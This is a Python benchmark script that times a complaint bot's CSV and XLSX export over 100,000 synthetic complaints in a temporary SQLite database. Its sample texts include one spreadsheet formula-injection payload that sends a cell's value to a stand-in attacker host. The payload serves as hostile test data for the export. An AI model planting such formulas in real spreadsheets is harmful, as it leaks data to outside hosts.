"""Benchmark: /export all over a database of 100,000 complaints.

A director's "everything" must come back as two files in reasonable time without the bot
going deaf meanwhile. The database is a temporary SQLite file, migrated as the bot does it
and filled by direct SQL inserts: a year of complaints from DMs, groups, channels and feeds,
most answered and closed, some with control dates moved once or twice, follow-up answers and
ratings, reopenings, and a share of hostile "=HYPERLINK(...)" texts.

Printed: first the whole `Exports.build(Period.ALL)` as /export runs it (pages read on the
event loop, files built in a worker thread), wall and CPU time (on a busy machine the
CPU time is the export's own cost), with how late a 10 ms ticker on the event loop
ran meanwhile, the files' sizes and the most resident memory during it; then its parts:
the SQL pages alone, and the files built from rows already in memory (cells, CSV, XLSX).

    .venv/bin/python bench/export.py [--tickets 100000] [--page 1000]
"""

from __future__ import annotations

import argparse
import asyncio
import random
import resource
import sqlite3
import sys
import tempfile
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from bot.core.export import PAGE_SIZE, Exports, Period
from bot.views.export import CsvSheet, ExportLabels, XlsxSheet, cells
from bot.views.texts import Texts
from storage import export
from storage.db import Database

TZ = ZoneInfo("Europe/Moscow")
NOW = datetime(2026, 12, 4, 9, 0, tzinfo=UTC)
STAFF = [(201, "Мария", "Иванова"), (202, "Денис", ""), (203, "Ольга", "Ким"), (100, "Ирина", "")]
SOURCES = [
    ("telegram", None),
    ("telegram", None),
    ("telegram", None),
    ("tg:-1001234567890", "Жильцы дома на Лесной"),
    ("t.me/city_news", None),
    ("https://reviews.example/feed.xml", "Отзывы о клинике"),
]
TEXTS = [
    "Записалась на приём к 10:00, прождала в коридоре сорок минут, администратор не извинилась "
    "и сказала, что так всегда. Больше к вам не приду, если ничего не изменится.",
    "Списали деньги за абонемент дважды, в приложении висит ошибка, на звонки никто не отвечает.",
    "Душ в мужской раздевалке не работает третью неделю, обещали починить к понедельнику.",
    '=HYPERLINK("http://evil.example/?x="&A1,"Скидка 50%")',
]
CAUSES = [None, None, "process", "informing", "expectations", "other"]


def moment(value: datetime) -> str:
    return value.astimezone(UTC).isoformat(timespec="seconds")


def fill(path: Path, count: int, seed: int = 13) -> None:
    """`count` complaints over the year before NOW, with their history, by direct SQL."""
    rng = random.Random(seed)
    tickets, events, reminders, followups = [], [], [], []
    reminder_id = 0
    for ticket_id in range(1, count + 1):
        created = NOW - timedelta(days=365) * (1 - ticket_id / count) - timedelta(minutes=1)
        source, title = rng.choice(SOURCES)
        owner = rng.choice(STAFF)[0] if rng.random() < 0.8 else None
        first = created + timedelta(minutes=rng.randint(1, 600)) if rng.random() < 0.85 else None
        due = created + timedelta(hours=rng.randint(4, 96)) if rng.random() < 0.4 else None
        closed = created + timedelta(hours=rng.randint(1, 120)) if rng.random() < 0.7 else None
        cause = rng.choice(CAUSES) if closed else None
        status = "closed" if closed else ("in_progress" if owner else "open")
        tickets.append(
            (
                ticket_id,
                source,
                f"x{ticket_id}",
                1000 + ticket_id % 5000,
                f"Клиент {ticket_id % 5000}",
                1000 + ticket_id % 5000 if source == "telegram" else None,
                rng.choice(TEXTS),
                f"https://t.me/city_news/{ticket_id}" if source.startswith("t.me/") else None,
                status,
                owner,
                moment(due) if due else None,
                cause,
                "парковка" if cause == "other" else None,
                moment(created),
                moment(closed or created),
                moment(first) if first else None,
                moment(closed) if closed else None,
                "Вернули деньги и извинились" if closed else None,
                title,
            )
        )
        if due:
            if rng.random() < 0.3:
                earlier = due - timedelta(hours=24)
                events.append((ticket_id, owner, "due_set", earlier.isoformat(), moment(created)))
            events.append((ticket_id, owner, "due_set", due.isoformat(), moment(created)))
        if rng.random() < 0.05:
            events.append((ticket_id, None, "reopened", "client wrote", moment(created)))
        if closed and rng.random() < 0.4:
            reminder_id += 1
            reminders.append((reminder_id, ticket_id, "followup", moment(closed), moment(closed)))
            answer = rng.choice(["yes", "yes", "no", None])
            rating = rng.randint(1, 5) if answer == "yes" and rng.random() < 0.6 else None
            followups.append((reminder_id, ticket_id, 1000, answer, rating))
    with sqlite3.connect(path) as conn:
        conn.executemany(
            "INSERT INTO staff (user_id, role, first_name, last_name, updated_at)"
            " VALUES (?, 'manager', ?, ?, '2026-01-01T00:00:00+00:00')",
            STAFF,
        )
        conn.executemany(
            """INSERT INTO tickets (id, source, external_id, author_id, author_name,
               client_chat_id, text, link, status, owner_id, due_at, root_cause,
               root_cause_note, created_at, updated_at, first_response_at, closed_at,
               resolution, source_title)
               VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)""",
            tickets,
        )
        conn.executemany(
            "INSERT INTO events (ticket_id, actor_id, kind, detail, created_at)"
            " VALUES (?, ?, ?, ?, ?)",
            events,
        )
        conn.executemany(
            "INSERT INTO reminders (id, ticket_id, kind, moment, decided_at)"
            " VALUES (?, ?, ?, ?, ?)",
            reminders,
        )
        conn.executemany(
            "INSERT INTO followups (reminder_id, ticket_id, chat_id, answer, rating)"
            " VALUES (?, ?, ?, ?, ?)",
            followups,
        )


def rss_mib() -> float:
    """The process's resident memory now (Linux), sampled while the export runs: the
    process's own peak (ru_maxrss) is set earlier, by filling the database."""
    resident_pages = int(Path("/proc/self/statm").read_text().split()[1])
    return resident_pages * resource.getpagesize() / 2**20


async def run(count: int, page_size: int) -> None:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "bench.db"
        db = await Database.open(path)  # migrated as the bot does it
        await db.close()
        started = time.perf_counter()
        fill(path, count)
        print(f"filled {count:,} complaints in {time.perf_counter() - started:.1f} s")
        db = await Database.open(path)
        try:
            await measure(db, count, page_size)
        finally:
            await db.close()


async def measure(db: Database, count: int, page_size: int) -> None:
    texts = Texts("ru")
    labels = ExportLabels.from_texts(texts)

    before = rss_mib()
    samples = [before]
    exports = Exports(db, texts, TZ, clock=lambda: NOW, page_size=page_size)
    stalls: list[float] = []
    done = asyncio.Event()

    async def ticker() -> None:
        loop = asyncio.get_running_loop()
        while not done.is_set():
            planned = loop.time() + 0.01
            await asyncio.sleep(0.01)
            stalls.append(loop.time() - planned)
            samples.append(rss_mib())

    watch = asyncio.create_task(ticker())
    started, cpu = time.perf_counter(), time.process_time()
    files = await exports.build(Period.ALL)
    whole, cpu = time.perf_counter() - started, time.process_time() - cpu
    done.set()
    await watch
    stalls.sort()
    print(
        f"/export all as the bot runs it: {whole:.2f} s wall, {cpu:.2f} s CPU for "
        f"{files.count:,} rows; "
        f"CSV {len(files.csv) / 2**20:.1f} MiB, XLSX {len(files.xlsx) / 2**20:.1f} MiB "
        f"({files.name})"
    )
    print(
        f"event loop meanwhile: 10 ms ticker late by p50 {stalls[len(stalls) // 2] * 1000:.0f} ms,"
        f" p99 {stalls[int(len(stalls) * 0.99)] * 1000:.0f} ms, max {stalls[-1] * 1000:.0f} ms"
        f" over {len(stalls)} ticks"
    )
    print(
        f"memory: resident at most {max(samples):.0f} MiB during the build, "
        f"+{max(samples) - before:.0f} MiB over the {before:.0f} MiB before it"
    )
    print("the parts, one after another, from rows held in memory:")

    started = time.perf_counter()
    rows: list[export.ExportRow] = []
    async with db.read() as conn:
        while True:
            after = rows[-1].id if rows else 0
            page = await export.page(conn, None, None, after=after, limit=page_size)
            rows.extend(page)
            if len(page) < page_size:
                break
    sql = time.perf_counter() - started
    assert len(rows) == count, len(rows)
    print(f"SQL, {page_size:,}-row pages: {sql:.2f} s ({count / sql:,.0f} rows/s)")

    started = time.perf_counter()
    table = [cells(row, labels, TZ, NOW) for row in rows]
    converted = time.perf_counter() - started
    started = time.perf_counter()
    sheet = CsvSheet(labels)
    sheet.add(table)
    csv_bytes = sheet.finish()
    csv_time = time.perf_counter() - started
    started = time.perf_counter()
    book = XlsxSheet(labels)
    book.add(table)
    xlsx_bytes = book.finish()
    xlsx_time = time.perf_counter() - started
    print(
        f"files from rows in memory: cells {converted:.2f} s, CSV {csv_time:.2f} s, "
        f"XLSX {xlsx_time:.2f} s"
    )
    assert csv_bytes and xlsx_bytes


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--tickets", type=int, default=100_000)
    parser.add_argument("--page", type=int, default=PAGE_SIZE, help="rows per SQL page")
    args = parser.parse_args()
    print(f"$ .venv/bin/python bench/export.py --tickets {args.tickets} --page {args.page}")
    asyncio.run(run(args.tickets, args.page))


if __name__ == "__main__":
    main()
